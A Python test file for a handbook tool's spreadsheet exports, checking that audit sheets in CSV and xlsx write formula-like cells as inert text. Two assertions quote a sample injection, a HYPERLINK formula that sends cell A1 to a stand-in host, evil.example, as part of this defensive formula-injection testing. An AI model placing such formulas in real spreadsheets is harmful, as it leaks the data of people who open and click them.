"""Issue 15, class 5: content never becomes a live formula in a spreadsheet we write.

Spec, "Safety rules added in v2": CSV and xlsx outputs write a cell that begins with `=`, `+`,
`-`, `@`, tab or CR as text (xlsx: a string cell; CSV: prefixed with `'`), and reading our own
sheets back drops that prefix again.
"""

from __future__ import annotations

import csv
import io
from pathlib import Path

from openpyxl import load_workbook

from support import TODAY, run_handbook
from support_hostile import assert_no_crash, hostile_project, minimal_copy

FORMULA_STARTS = ("=", "+", "-", "@", "\t", "\r")


def _live_cells(text: str) -> list[str]:
    """Cells a spreadsheet would evaluate: they start with a formula character."""
    rows = csv.reader(io.StringIO(text.removeprefix("\ufeff")))
    return [cell for row in rows for cell in row if cell.startswith(FORMULA_STARTS)]


def test_audit_sheet_csv_neutralises_every_formula_start(tmp_path: Path) -> None:
    project = hostile_project(tmp_path, "formula-cells")
    run = run_handbook("audit", "sheet", str(project), "--role", "truong-ca")
    assert_no_crash(run)
    assert run.code == 0, run.err
    assert _live_cells(run.out) == []
    # The text itself survives behind the prefix.
    cells = [cell for row in csv.reader(io.StringIO(run.out)) for cell in row]
    assert '\'=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")' in cells


def test_audit_sheet_xlsx_writes_formula_text_as_string_cells(tmp_path: Path) -> None:
    project = hostile_project(tmp_path, "formula-cells")
    sheet = tmp_path / "sheet.xlsx"
    run = run_handbook(
        "audit", "sheet", str(project), "--role", "truong-ca", "--format", "xlsx", "-o", str(sheet)
    )
    assert_no_crash(run)
    assert run.code == 0, run.err
    worksheet = load_workbook(sheet).active
    assert worksheet is not None
    formulas = [
        cell.coordinate for row in worksheet.iter_rows() for cell in row if cell.data_type == "f"
    ]
    assert formulas == [], f"live formulas in {formulas}"
    actions = [row[7] for row in worksheet.iter_rows(min_row=2, values_only=True)]
    assert '=HYPERLINK("http://evil.example/?d="&A1,"Bấm vào đây")' in actions


def test_audit_report_csv_neutralises_titles(tmp_path: Path) -> None:
    # A second way in: the SOP title and a step action reach the report's `title` column.
    project = hostile_project(tmp_path, "formula-cells")
    run = run_handbook("audit", "report", str(project), "--format", "csv")
    assert_no_crash(run)
    assert run.code == 0, run.err
    assert _live_cells(run.out) == []


def test_a_filled_in_sheet_reads_back(tmp_path: Path) -> None:
    # The guard of the tests above: our own sheet, filled in and saved into content/audits/,
    # is valid as it is, whatever prefix the fix adds to its cells.
    project = hostile_project(tmp_path, "formula-cells")
    sheet = run_handbook("audit", "sheet", str(project), "--role", "truong-ca")
    assert sheet.code == 0, sheet.err
    rows = list(csv.reader(io.StringIO(sheet.out.removeprefix("\ufeff"))))
    header, body = rows[0], rows[1:]
    filled = []
    for row in body:
        cells = dict(zip(header, row, strict=True))
        cells.update(date="2026-11-02", branch="Quận 1", auditor="Lan", result="pass")
        filled.append([cells[name] for name in header])
    out = io.StringIO()
    csv.writer(out).writerows([header, *filled])
    (project / "content" / "audits" / "2026-11.csv").write_text(out.getvalue(), encoding="utf-8")
    checked = run_handbook("check", str(project), "--today", TODAY)
    assert checked.code == 0, checked.err
    report = run_handbook("audit", "report", str(project), "--format", "csv")
    overall = next(row for row in csv.reader(io.StringIO(report.out)) if row[0] == "overall")
    assert int(overall[3]) == 1 + len(body)  # the fixture's one pass, and every filled-in row


def test_plain_text_cells_are_left_alone(tmp_path: Path) -> None:
    # No prefix where none is needed: a sheet without formula characters is written as before.
    project = minimal_copy(tmp_path)
    run = run_handbook("audit", "sheet", str(project), "--role", "truong-ca")
    assert run.code == 0, run.err
    cells = [cell for row in csv.reader(io.StringIO(run.out)) for cell in row]
    assert [cell for cell in cells if cell.startswith("'")] == []
    assert "Đếm tiền trong két." in run.out


def test_a_control_character_never_crashes_the_xlsx_sheet(tmp_path: Path) -> None:
    # `check` should refuse the character at its value (exit 1); until then openpyxl raises
    # IllegalCharacterError and the command exits 3.
    project = minimal_copy(tmp_path)
    sop = project / "content" / "sops" / "dong-ca.yml"
    text = sop.read_text(encoding="utf-8")
    sop.write_text(
        text.replace("Đếm tiền trong két.", '"Đếm tiền\\x01 trong két."'), encoding="utf-8"
    )
    sheet = tmp_path / "sheet.xlsx"
    run = run_handbook(
        "audit", "sheet", str(project), "--role", "truong-ca", "--format", "xlsx", "-o", str(sheet)
    )
    assert_no_crash(run)
    assert run.code in (0, 1), run.err
